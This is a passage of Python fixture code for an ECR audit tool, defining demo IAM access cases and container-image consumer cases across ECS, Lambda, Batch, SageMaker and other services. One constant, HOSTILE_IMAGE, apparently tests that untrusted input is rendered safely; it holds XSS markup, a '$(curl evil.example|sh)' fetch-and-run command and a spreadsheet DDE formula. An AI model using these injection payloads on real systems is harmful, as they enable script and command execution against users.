            "ecr:DeleteRepository is also denied by the SCP",
            principal_arn=_role(PAYMENTS, "developer"),
            capabilities={"pull": True, "push": False, "delete": False, "manage": False},
            repositories=_PAYMENTS_REPOS,
            capped_by=("developer-boundary",),
        ),
        AccessCase(
            "repo_admin_delete_repository_denied_by_scp",
            PAYMENTS,
            "ecr:* on *: manages and pushes every payments repository; the SCP on OU prod denies "
            "ecr:DeleteRepository, ecr:BatchDeleteImage stays allowed (so delete is still possible)",
            principal_arn=_role(PAYMENTS, "repo-admin"),
            capabilities={"manage": True, "push": True, "delete": True},
            repositories=_PAYMENTS_REPOS,
            capped_by=(DENY_DELETE_SCP,),
        ),
        AccessCase(
            "organization_access_role_is_admin",
            PAYMENTS,
            "OrganizationAccountAccessRole (created by Organizations, trusted by the management "
            "account) has full administrative permissions; the SCP denies it ecr:DeleteRepository",
            principal_arn=_role(PAYMENTS, "OrganizationAccountAccessRole"),
            capabilities={"manage": True, "push": True},
            repositories=_PAYMENTS_REPOS,
            capped_by=(DENY_DELETE_SCP,),
        ),
        AccessCase(
            "external_path_via_role",
            PAYMENTS,
            f"account {EXTERNAL} (outside the organization) can assume vendor-deploy (with an "
            "ExternalId) and push to payments/api; the perimeter RCP does not stop it, the session "
            "is a principal of the organization (through it the vendor can also pull "
            "payments/charts and payments/public-sdk, whose policies allow any principal)",
            "us-east-1",
            "payments/api",
            principal_arn=_role(PAYMENTS, "vendor-deploy"),
            capabilities={"push": True, "pull": True, "get_authorization_token": True},
            repositories=(("us-east-1", "payments/api"),),
            via="identity",
        ),
        AccessCase(
            "user_without_authorization_token",
            DATA,
            "the pull actions on data/* are allowed, ecr:GetAuthorizationToken is not: no docker "
            "pull (the API calls are allowed, a registry login is not)",
            principal_arn=f"arn:aws:iam::{DATA}:user/analyst",
            capabilities={"pull": True, "get_authorization_token": False},
            repositories=_DATA_REPOS,
            via="identity",
        ),
        AccessCase(
            "group_member_pull",
            DATA,
            "auditor is a member of readers, whose AmazonEC2ContainerRegistryReadOnly allows "
            "GetAuthorizationToken and pull on *: every data repository (same account) and, cross "
            "account, the repositories whose policies let the data account or the organization in. "
            "No push through its policies; data/etl's NotPrincipal Allow (ecr:* to everyone but "
            "role/blocked) lets it push there all the same (same account: the resource policy suffices)",
            principal_arn=f"arn:aws:iam::{DATA}:user/auditor",
            capabilities={"pull": True, "get_authorization_token": True},
            repositories=(
                *_DATA_REPOS,
                ("us-east-1", "payments/worker"),
                ("us-east-1", "payments/api"),
                ("eu-west-1", "payments/charts"),
                ("eu-west-1", "payments/public-sdk"),
                ("us-east-1", "shared/base"),
            ),
            via="identity",
        ),
        AccessCase(
            "service_linked_role_not_capped_by_scp",
            PAYMENTS,
            "ECR's replication service-linked role: SCPs do not restrict service-linked roles",
            principal_arn=_role(
                PAYMENTS,
                "AWSServiceRoleForECRReplication",
                "/aws-service-role/replication.ecr.amazonaws.com/",
            ),
        ),
        AccessCase(
            "unused_aws_managed_policy_not_collected",
            DATA,
            "AmazonEC2ContainerRegistryFullAccess exists in the account but is attached to nothing: "
            "not in iam_policies (AWS managed policies are kept only when used)",
        ),
    )
}


# -- consumers (issue 14) -------------------------------------------------------------------------
# Who uses which image, in several accounts. Each case is named in CONSUMER_CASES with what the
# analysis (ecr_audit.consumers) should conclude; docs/consumers.md#the-demo-cases lists them.


def _uri(
    account: str, region: str, repository: str, tag: str | None = None, digest: str | None = None
) -> str:
    return (
        f"{account}.dkr.ecr.{region}.amazonaws.com/{repository}"
        + (f":{tag}" if tag else "")
        + (f"@{digest}" if digest else "")
    )


# The digests the cases are about (the same manifests demo_world builds).
WORKER_UNREFERENCED = mf.single_image("worker:unreferenced", BASE_LAYERS).digest
WORKER_LIST = {
    t: mf.buildx_image("worker:" + t, BASE_LAYERS, docker=True)[0].digest
    for t in ("v1.2.0", "v1.2.1", "v1.3.0")
}
API_INDEX = {
    t: mf.buildx_image("api:" + t, PYTHON_LAYERS)[0].digest
    for t in ("1.0.0", "1.1.0", "1.2.0", "1.2.1", "1.2.3")
}
API_123_AMD64 = mf.buildx_image("api:1.2.3", PYTHON_LAYERS)[1][0].digest
ETL = {i: mf.single_image(f"etl:{i}", PYTHON_LAYERS, docker=False).digest for i in range(1, 11)}
NOTEBOOKS_130 = mf.single_image("nb:v1.3.0", PYTHON_LAYERS).digest
ARCHIVE_RESTORED = mf.single_image("archive:restored", PYTHON_LAYERS).digest
LEGACY_UI = {v: mf.single_image(f"legacy-ui:{v}", BASE_LAYERS).digest for v in ("2.0.0", "2.1.0", "2.2.0")}
DOCKER_HUB_NGINX = "docker.io/library/nginx:1.27"
DOCKER_HUB_NGINX_DIGEST = mf.sha256("docker-hub:library/nginx:1.27")  # what Docker Hub served
AWS_DLC_IMAGE = (
    "763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:2.3.0-cpu-py311-ubuntu20.04-sagemaker"
)
# Untrusted text in an image field: markup, shell expansion, a right-to-left override, 10 kB.
HOSTILE_IMAGE = (
    "<script>alert('image')</script><img src=x onerror=alert(1)>$(curl evil.example|sh)${HOME}`id`"
    "\u202eexe.txt\u202c|=cmd|'/c calc'!A1\t\"quoted\"\n" + "A" * 10_000
)


@dataclass(frozen=True)
class ConsumerCase:
    """A consumer of the demo world and what the analysis should conclude about it."""

    consumer_account_id: str
    consumer_region: str
    consumer_kind: str  # the consumers frame's kind of the row(s) that show the case
    consumer_name: str
    image: str  # the reference as the consumer wrote it
    digest: str | None  # the inventory image the case is about (None: no such image)
    expected: str


CONSUMER_CASES: dict[str, ConsumerCase] = {
    "ecs_service_pins_moved_tag": ConsumerCase(
        PAYMENTS,
        "us-east-1",
        "ecs_service_revision",
        "prod/worker",
        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.3.0"),
        WORKER_UNREFERENCED,
        "in use (deployed, running): the service deployed tag v1.3.0 when it named this image; the tag "
        "has moved, ECS pinned the old digest (resolved_by_service). payments/worker's `untagged` "
        "lifecycle rule expires it: ecr_lifecycle_expires_in_use_image (critical) naming prod/worker in "
        "payments; never an orphan. The same service's ecs_service_deployment row names the tag "
        "(tag_now: the v1.3.0 manifest list).",
    ),
    "ecs_running_task": ConsumerCase(
        PAYMENTS,
        "us-east-1",
        "ecs_task",
        "prod/service:worker",
        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.3.0"),
        WORKER_UNREFERENCED,
        "two running tasks of the worker service; their runtime digest (containers[].imageDigest) is "
        "the untagged image: running, resolved_by_service.",
    ),
    "ecs_rollback_window": ConsumerCase(
        PAYMENTS,
        "us-east-1",
        "ecs_task_definition",
        "api:2",
        _uri(PAYMENTS, "us-east-1", "payments/api", "1.1.0"),
        API_INDEX["1.1.0"],
        "family api has 6 ACTIVE revisions; with --keep-task-definitions 5 revisions 2-5 (api 1.1.0, "
        "1.2.0, 1.2.1, 1.2.3) are rollback references (tag_now) and revision 1 (api 1.0.0) is outside "
        "the window: api 1.0.0 has no consumer (in_use no). worker:1 and worker:2 (v1.2.0, v1.2.1) are "
        "rollback too; the worker service's previous deployment is an ecs_service_revision with role "
        "rollback pinning the v1.2.1 list.",
    ),
    "lambda_weighted_alias": ConsumerCase(
        DATA,
        "us-east-1",
        "lambda_version",
        "etl-runner:1",
        _uri(DATA, "us-east-1", "data/etl", "2026.08"),
        ETL[8],
        "alias live sends 10% to version 1 (deployed by tag 2026.08; ResolvedImageUri is that image's "
        "digest) and 90% to version 2 (pinned by digest: data/etl 2026.09); $LATEST is data/etl:2026.10 "
        "(defined, is_running unknown). All three images in use.",
    ),
    "batch_deleted_tag": ConsumerCase(
        DATA,
        "us-east-1",
        "batch_job_definition",
        "nightly-etl:1",
        _uri(DATA, "us-east-1", "data/etl", "2025.12"),
        None,
        "the tag 2025.12 does not exist in data/etl: not_found, ecr_consumer_image_missing (high). The "
        "account's other job definitions (ecsProperties, nodeProperties, eksProperties) name existing "
        "data/etl tags.",
    ),
    "cross_account_with_grant": ConsumerCase(
        DATA,
        "us-east-1",
        "ecs_task",
        "analytics/family:analytics",
        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.2.1"),
        WORKER_LIST["v1.2.1"],
        "a task in data runs payments/worker:v1.2.1 (a manifest list): cross-account, and the "
        "repository policy's DataAccountPull lets data pull: no ecr_consumer_without_grant.",
    ),
    "cross_account_without_grant": ConsumerCase(
        MANAGEMENT,
        "us-east-1",
        "ecs_service_deployment",
        "tools/reports",
        _uri(DATA, "us-east-1", "data/notebooks", "v1.3.0"),
        NOTEBOOKS_130,
        "the management account's reports service runs data/notebooks:v1.3.0; no policy lets "
        "management pull it: ecr_consumer_without_grant (medium). The image is in use.",
    ),
    "eks_via_inspector": ConsumerCase(
        PAYMENTS,
        "us-east-1",
        "inspector_eks",
        "checkout/checkout-api",
        _uri(PAYMENTS, "us-east-1", "payments/api", digest=API_123_AMD64),
        API_123_AMD64,
        "known only through Inspector (GetClustersForImage: EKS cluster platform): the amd64 child of "
        "api 1.2.3 is in use (observed), which keeps its index in use.",
    ),
    "sagemaker_endpoint": ConsumerCase(
        DATA,
        "us-east-1",
        "sagemaker_endpoint",
        "churn/primary",
        _uri(DATA, "us-east-1", "data/etl", "2026.07"),
        ETL[7],
        "the endpoint's variant deployed data/etl:2026.07 (ResolvedImage: its digest): in use, running. "
        "The churn-model model is a defined reference to the same image; dlc-model names an AWS Deep "
        "Learning Container (account 763104351884): outside_inventory.",
    ),
    "emr_serverless_application": ConsumerCase(
        DATA,
        "eu-west-1",
        "emr_serverless_application",
        "spark-archive",
        _uri(DATA, "eu-west-1", "data/archive", "2024.restored"),
        ARCHIVE_RESTORED,
        "application and its Driver/Executor worker types run the restored archive image (resolved "
        "digest): in use.",
    ),
    "codebuild_project": ConsumerCase(
        PAYMENTS,
        "us-east-1",
        "codebuild_project",
        "worker-ci",
        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.2.0"),
        WORKER_LIST["v1.2.0"],
        "a defined consumer (tag_now: the v1.2.0 list). api-ci uses aws/codebuild/standard:7.0, a "
        "CodeBuild-managed image: outside_inventory.",
    ),
    "apprunner_service": ConsumerCase(
        PAYMENTS,
        "eu-west-1",
        "apprunner_service",
        "legacy-ui",
        _uri(PAYMENTS, "eu-west-1", "payments/legacy-ui", "2.2.0"),
        LEGACY_UI["2.2.0"],
        "running App Runner service: legacy-ui 2.2.0 is in use although its last pull is more than a "
        "year old (stale by pull time, not unused).",
    ),
    "non_ecr_image": ConsumerCase(
        PAYMENTS,
        "us-east-1",
        "ecs_task",
        "prod/family:sidecar",
        DOCKER_HUB_NGINX,
        None,
        "a Docker Hub image: is_ecr_private false, outside_inventory (the api:6 task definition's "
        "public.ecr.aws sidecar too).",
    ),
    "hostile_image": ConsumerCase(
        DATA,
        "us-east-1",
        "ecs_task_definition",
        "hostile:1",
        HOSTILE_IMAGE,
        None,
        "an image field of markup, shell expansion, a bidi override and 10 kB of text: unparseable, "
        "kept verbatim, rendered as text.",
    ),
    "cloudtrail_pulls": ConsumerCase(
        DATA,
        "us-east-1",
        "cloudtrail_pull",
        "assumed-role/analytics-task-execution/1f2e3d",
        _uri(PAYMENTS, "us-east-1", "payments/worker", "v1.2.1"),
        WORKER_LIST["v1.2.1"],
        "with --consumers ...,cloudtrail: data pulled payments/worker:v1.2.1 (the DataAccountPull grant "
        "is used) and the external vendor pulled legacy-ui:2.1.0 in eu-west-1 (VendorPull is used); "
        "data/notebooks' AllowPayments grant has no consumer and no pull: ecr_grant_unused (low). The "
        "audit's own BatchGetImage calls are not consumers.",
    ),
}


def demo_consumers(now: datetime) -> dict[tuple[str, str], Consumers]:
    """The consumers of each account × region of the demo world."""

    def ago(days: float) -> datetime:
        return now - timedelta(days=days)

    pay, pay_eu = _uri(PAYMENTS, "us-east-1", ""), _uri(PAYMENTS, "eu-west-1", "")
    data, data_eu = _uri(DATA, "us-east-1", ""), _uri(DATA, "eu-west-1", "")
    worker_td = f"arn:aws:ecs:us-east-1:{PAYMENTS}:task-definition/worker:3"
    payments_us = Consumers(
        task_definitions=[
            TaskDefinition("worker", [Container("app", pay + "payments/worker:v1.2.0")]),
            TaskDefinition("worker", [Container("app", pay + "payments/worker:v1.2.1")]),
            TaskDefinition("worker", [Container("app", pay + "payments/worker:v1.3.0")]),
            *[
                TaskDefinition("api", [Container("web", pay + f"payments/api:{v}")])
                for v in ("1.0.0", "1.1.0", "1.2.0", "1.2.1", "1.2.3")
            ],
            TaskDefinition(
                "api",
                [
                    Container("web", pay + "payments/api:1.2.3"),
                    Container("otel", "public.ecr.aws/aws-observability/aws-otel-collector:v0.40.0"),
                ],
            ),
            TaskDefinition("sidecar", [Container("nginx", DOCKER_HUB_NGINX)]),
            TaskDefinition(
                "sidecar", [Container("nginx", "docker.io/library/nginx:1.25")], status="INACTIVE"
            ),
        ],
        clusters=[
            EcsCluster(
                "prod",
                services=[
                    EcsService(
                        "worker",
                        "worker",
                        [
                            EcsDeployment(2, ago(90), digests={"app": WORKER_LIST["v1.2.1"]}),
                            EcsDeployment(3, ago(40), digests={"app": WORKER_UNREFERENCED}),
                        ],
                        running=2,
                    ),
                    EcsService(
                        "api", "api", [EcsDeployment(5, ago(12)), EcsDeployment(6, ago(10))], running=1
                    ),
                ],
                tasks=[
                    EcsTask("worker", 3, ago(40), "service:worker", {"app": WORKER_UNREFERENCED}),
                    EcsTask("worker", 3, ago(8), "service:worker", {"app": WORKER_UNREFERENCED}),
                    EcsTask("api", 6, ago(10), "service:api"),
                    EcsTask("sidecar", 1, ago(3), None, {"nginx": DOCKER_HUB_NGINX_DIGEST}),
                ],
            )
        ],
        codebuild_projects=[
            CodeBuildProject("worker-ci", pay + "payments/worker:v1.2.0"),
            CodeBuildProject("api-ci", "aws/codebuild/standard:7.0", credentials="CODEBUILD"),
        ],
        inspector_ecr=True,
        inspector_images=[
            InspectorImage(
                "payments/worker",
                WORKER_UNREFERENCED,
                2,
                ago(0.1),
                [
                    InspectorCluster(
                        f"arn:aws:ecs:us-east-1:{PAYMENTS}:cluster/prod",
                        ago(0.1),
                        running=2,
                        ecs_group="service:worker",
                        task_definition_arn=worker_td,
                    )
                ],
            ),
            InspectorImage(
                "payments/api",
                API_123_AMD64,
                3,
                ago(0.2),
                [
                    InspectorCluster(
                        f"arn:aws:eks:us-east-1:{PAYMENTS}:cluster/platform",
                        ago(0.2),
                        running=3,
                        stopped=1,
                        eks_namespace="checkout",
                        workloads=[("checkout-api", "DEPLOYMENT")],
                    )
                ],
            ),
        ],
        pulls=[
            Pull(
                f"arn:aws:sts::{DATA}:assumed-role/analytics-task-execution/1f2e3d",
                DATA,
                "payments/worker",
                ago(d),
                tag="v1.2.1",
            )
            for d in (0.5, 2, 9)
        ],
    )
    payments_eu = Consumers(
        apprunner_services=[AppRunnerService("legacy-ui", pay_eu + "payments/legacy-ui:2.2.0")],
        inspector_ecr=True,
        pulls=[
            Pull(
                f"arn:aws:sts::{EXTERNAL}:assumed-role/vendor-deploy/release-7",
                EXTERNAL,
                "payments/legacy-ui",
                ago(5),
                tag="2.1.0",
            )
        ],
    )
    data_us = Consumers(
        task_definitions=[
            TaskDefinition("analytics", [Container("worker", pay + "payments/worker:v1.2.1")]),
            TaskDefinition("hostile", [Container("x", HOSTILE_IMAGE)]),
        ],
        clusters=[EcsCluster("analytics", tasks=[EcsTask("analytics", 1, ago(2))])],
        functions=[
            LambdaFunction(
                "etl-runner",
                versions=[LambdaCode(data + "data/etl:2026.08"), LambdaCode(data + f"data/etl@{ETL[9]}")],
                latest=LambdaCode(data + "data/etl:2026.10"),
                aliases={"live": ("2", {"1": 0.1})},
            )
        ],
        job_definitions=[
            BatchJobDefinition("nightly-etl", image=data + "data/etl:2025.12"),
            BatchJobDefinition(
                "reindex",
                ecs_containers=[
                    Container("indexer", data + "data/etl:2026.09"),
                    Container("sidecar", "public.ecr.aws/docker/library/busybox:1.36"),
                ],
            ),
            BatchJobDefinition("shard-scan", node_images=[("0:", data + "data/etl:2026.10")]),
            BatchJobDefinition("train-eks", eks_containers=[Container("trainer", data + "data/etl:2026.07")]),
        ],
        sagemaker_models=[
            SageMakerModel("churn-model", [data + "data/etl:2026.07"]),
            SageMakerModel("dlc-model", [AWS_DLC_IMAGE]),
        ],
        sagemaker_endpoints=[SageMakerEndpoint("churn", "churn-model")],
        inspector_ecr=True,
    )
    data_eu = Consumers(
        emr_applications=[
            EmrApplication(
                "spark-archive",
                image=data_eu + "data/archive:2024.restored",
                worker_images={
                    "Driver": data_eu + "data/archive:2024.restored",
                    "Executor": data_eu + "data/archive:2024.restored",
                },
            )
        ],
        inspector_ecr=False,  # Inspector's ECR scanning is off here: coverage `disabled`
    )
    management_us = Consumers(
        task_definitions=[TaskDefinition("reports", [Container("report", data + "data/notebooks:v1.3.0")])],
        clusters=[
            EcsCluster(
                "tools",
                services=[EcsService("reports", "reports", [EcsDeployment(1, ago(20))])],
                tasks=[EcsTask("reports", 1, ago(20), "service:reports")],
            )
        ],
        inspector_ecr=True,
    )
    return {
        (PAYMENTS, "us-east-1"): payments_us,
        (PAYMENTS, "eu-west-1"): payments_eu,
        (DATA, "us-east-1"): data_us,
        (DATA, "eu-west-1"): data_eu,
        (MANAGEMENT, "us-east-1"): management_us,
        (MANAGEMENT, "eu-west-1"): Consumers(inspector_ecr=True),
    }
